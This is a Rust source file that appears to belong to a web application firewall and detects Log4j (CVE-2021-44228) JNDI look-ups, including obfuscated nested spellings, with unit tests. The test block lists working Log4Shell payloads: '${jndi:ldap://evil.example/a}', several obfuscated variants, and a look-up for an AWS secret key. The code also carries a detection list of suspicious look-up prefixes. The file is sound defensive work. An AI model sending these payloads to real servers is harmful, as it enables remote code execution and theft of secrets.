//! The look-ups of Log4j (CVE-2021-44228), however they are spelled.

use crate::waf::detect::{Hit, Hits};
use crate::waf::meter::price;
use crate::waf::rules::jndi;
use crate::waf::scan::{at, find, from, span, stands, word};

/// How far a look-up's end is looked for, in bytes.
const MAX_LOOKUP: usize = 80;
/// How far a look-up with others inside is read, in bytes.
const MAX_SPELLED: usize = 256;
/// What every look-up that loads a class begins with once it is spelled out.
const TARGET: &[u8] = b"jndi:";

/// `${jndi:…}` however it is spelled: a look-up within a look-up that spells it, or one that names
/// a default character, is only ever written to hide something.
pub(super) fn detect(text: &[u8], hits: &mut Hits) {
    // Spelling look-ups out costs as much as it reads: a few times the text, then no more. A text
    // that exceeds this is nothing but nested look-ups.
    let mut budget = 2 * text.len() + MAX_SPELLED;
    let mut index = 0;
    while let Some(start) = find(text, b"${", index) {
        index = start + 2;
        if !hits.meter.pays(price::LOOKUP) {
            return;
        }
        let window = span(text, index, index + MAX_SPELLED);
        let (is_target, read) = spells_target(window);
        hits.meter.charge(read, price::SPELLED);
        let Some(left) = budget.checked_sub(read) else {
            hits.push(Hit::new(&jndi::NESTED, start, index));
            return;
        };
        budget = left;
        let end = length(window);
        if is_target {
            hits.push(Hit::new(&jndi::LOOKUP, start, index + end));
            return;
        }
        if hides(text, start, span(window, 0, end)) {
            hits.push(Hit::new(&jndi::NESTED, start, index + end));
            return;
        }
    }
}

/// Up to the first closing brace.
fn length(window: &[u8]) -> usize {
    let body = span(window, 0, MAX_LOOKUP);
    body.iter()
        .position(|byte| matches!(byte, b'}' | b'\n'))
        .unwrap_or(body.len())
}

/// Whether what stands between the braces is `jndi:` once the look-ups inside are replaced by what
/// they yield: `${lower:j}` and `${::-j}` yield their last part, `${}` nothing. And how many
/// bytes were read to tell.
fn spells_target(window: &[u8]) -> (bool, usize) {
    let mut spelled: Vec<u8> = Vec::new();
    // Where in `spelled` the look-ups that are open begin.
    let mut open: Vec<usize> = Vec::new();
    let mut index = 0;
    while index < window.len() {
        match at(window, index) {
            b'\n' | b'/' => break,
            b'$' if at(window, index + 1) == b'{' => {
                open.push(spelled.len());
                index += 1;
            }
            b'}' => {
                let Some(start) = open.pop() else { break };
                let inner = from(&spelled, start);
                // `${date:':'}` yields the colon itself.
                let head = inner.strip_suffix(b":").unwrap_or(inner);
                let value = head
                    .iter()
                    .rposition(|byte| *byte == b':')
                    .map_or(&[][..], |colon| from(inner, colon + 1));
                // `${date:}` yields nothing.
                let value = if head.len() < inner.len() && head.contains(&b':') {
                    b":"
                } else {
                    value.strip_prefix(b"-").unwrap_or(value)
                };
                let value = value.to_vec();
                spelled.truncate(start);
                spelled.extend_from_slice(&value);
            }
            b'\'' | b'"' | b'\\' | b' ' => {}
            byte => spelled.push(byte),
        }
        if open.is_empty() && spelled.len() >= TARGET.len() {
            break;
        }
        index += 1;
    }
    (spelled.starts_with(TARGET), index)
}

/// Whether a look-up hides a character or asks for the server's secrets.
fn hides(text: &[u8], start: usize, inner: &[u8]) -> bool {
    let prefix = word(inner, 0);
    if stands(inner, 0, b"${") && inner.contains(&b':') {
        return true;
    }
    if at(inner, prefix.len()) != b':' {
        return false;
    }
    let names_character = find(inner, b":-", prefix.len() + usize::from(!prefix.is_empty()))
        .is_some_and(|default| inner.len() - default <= 8);
    let is_foreign = matches!(
        prefix,
        b"base64decoder"
            | b"base64encoder"
            | b"urldecoder"
            | b"urlencoder"
            | b"lower"
            | b"upper"
            | b"k8s"
            | b"docker"
            | b"script"
            | b"dns"
            | b"marker"
            | b"sd"
    );
    // Configuration files read the environment too; a value that is nothing else asks for it.
    let is_whole = start == 0
        && inner.len() + 5 >= text.len()
        && matches!(
            prefix,
            b"env" | b"sys" | b"java" | b"ctx" | b"main" | b"bundle" | b"web" | b"spring"
        );
    names_character || is_foreign || is_whole
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_found(text: &str) -> bool {
        let mut hits = Hits::default();
        detect(text.as_bytes(), &mut hits);
        !hits.is_empty()
    }

    #[test]
    fn finds_the_look_up_in_every_spelling() {
        for attack in [
            "${jndi:ldap://evil.example/a}",
            "${j${k8s:k5:-n}di:ldap://x/a}",
            "${j${}ndi:ldap://x/a}",
            "${jn${lower:d}i:rmi://x/a}",
            "${${env:x:-j}ndi${env:x:-:}ldap://x/a}",
            "${jn${date:'d'}i${date:':'}ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
            "${${what:ever:-${lower:j}}ndi:dns://x}",
            "${env:aws_secret_access_key}",
        ] {
            assert!(is_found(attack), "{attack}");
        }
        assert!(is_found(&"${".repeat(4096)));
    }

    #[test]
    fn leaves_templates_and_defaults_alone() {
        for honest in [
            "${lower} and ${upper}",
            "url: ${db_url:${fallback}}",
            "port=${port:-8080} host=${host:-${name}}",
            "`${user.name} has ${count} items`",
            "${jn} ${di}",
        ] {
            assert!(!is_found(honest), "{honest}");
        }
    }
}
